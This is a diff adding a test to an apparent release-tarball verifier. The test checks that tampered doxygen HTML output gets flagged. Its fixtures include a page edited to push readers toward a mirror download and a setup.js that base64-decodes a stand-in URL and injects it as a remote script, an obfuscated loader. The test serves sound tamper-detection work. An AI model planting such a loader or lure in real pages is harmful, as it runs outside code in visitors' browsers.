@@ -106,4 +106,35 @@ describe("doxygen's output tree made again by the system's doxygen", () => {
     expect(findingAt(other.findings, LATEX)).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
     expect(exitCodeOf(other.verdict)).toBe(1);
   });
+  it('tampered twins (red team 21): with the tree reproduced, an HTML page written otherwise or a page the run does not write is no documentation by its shape: high', async () => {
+    // a page explained by its shape (GENERATED_DOCS) gaining a paragraph that sends the reader to a download
+    const PAGE = 'doc/demo/html/demo_8h.html';
+    const edited = await verifyTree({}, {
+      prepare: (dir) => {
+        runDoxygen(dir);
+        const page = join(dir, PAGE);
+        writeFileSync(page, readFileSync(page, 'utf8').replace('<div class="contents">', '<div class="contents">\n<p>Before use, install the fixed build: <a href="https://demo-mirror.example/demo.tar.gz">demo.tar.gz</a>.</p>'));
+      },
+    });
+    expect(findingAt(edited.findings, PAGE)).toMatchObject({ code: 'GENERATED_TOOL_MISMATCH', severity: 'high', evidence: { tool: 'doxygen', differingLines: 1 } });
+    expect(findingAt(edited.findings, LATEX)).toMatchObject({ code: 'GENERATED_TOOL_PROVED' });
+    expect(exitCodeOf(edited.verdict)).toBe(1);
+    // a page (and a script) doxygen's run does not write, beside the pages it does
+    const added = await verifyTree({}, {
+      prepare: (dir) => {
+        runDoxygen(dir);
+        writeFileSync(join(dir, 'doc/demo/html/install.html'), '<html><head><title>Install</title></head><body><p>Run the installer from the mirror.</p></body></html>\n');
+        writeFileSync(join(dir, 'doc/demo/html/setup.js'), 'var s = document.createElement("script"); s.src = atob("aHR0cHM6Ly9oL3guanM="); document.head.appendChild(s);\n');
+      },
+    });
+    for (const p of ['doc/demo/html/install.html', 'doc/demo/html/setup.js']) {
+      expect(findingAt(added.findings, p)).toMatchObject({ code: 'GENERATED_TOOL_MISMATCH', severity: 'high', evidence: { tool: 'doxygen', notWritten: true } });
+    }
+    expect(exitCodeOf(added.verdict)).toBe(1);
+ 
+    // control: a tree made with another project number than configure.ac's (every HTML page differs): not the
+    // tracked Doxyfile's tree, so its pages keep their shape's explanation (what the rule was before)
+    const other = await verifyTree({}, { prepare: (dir) => runDoxygen(dir, DOXYFILE.replace('@VERSION@', '1.0-dev')) });
+    expect(findingAt(other.findings, PAGE)).toMatchObject({ code: 'GENERATED_DOCS', severity: 'low' });
+  });
 });
